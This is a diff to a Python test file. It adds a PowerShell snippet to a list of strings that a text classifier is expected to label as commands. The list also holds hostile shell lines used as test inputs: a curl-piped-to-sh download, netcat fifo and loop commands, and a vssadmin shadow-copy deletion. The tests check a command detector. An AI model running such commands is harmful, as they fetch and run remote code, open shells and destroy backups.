@@ -105,7 +105,7 @@ def test_a_pair_alone_with_an_attack_is_one(text):
 @pytest.mark.parametrize("text", [
     "kill -9 4711", "kill -HUP 4711", "su - root", "su -", "source ~/.bashrc", "set +o history", "ps aux", "while true; do nc db7 1; done", "clear", "node app.js", "make install",
     "mkfifo /tmp/f; nc -l 1 < /tmp/f", r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1", r"\SystemRoot\System32\smss.exe", "%COMSPEC% /c echo x", "launchctl load a.plist",
-    "C:/Windows/System32/cmd.exe /c whoami", "#!/bin/bash\ncurl http://db7/x | sh", "@echo off\r\nvssadmin delete shadows /all"])
+    "{ Set-StrictMode -Version 1; $_.Name }", "C:/Windows/System32/cmd.exe /c whoami", "#!/bin/bash\ncurl http://db7/x | sh", "@echo off\r\nvssadmin delete shadows /all"])
 def test_a_command_is_one_with_few_words(text):
     assert bare_of(text).kind == "command"
 
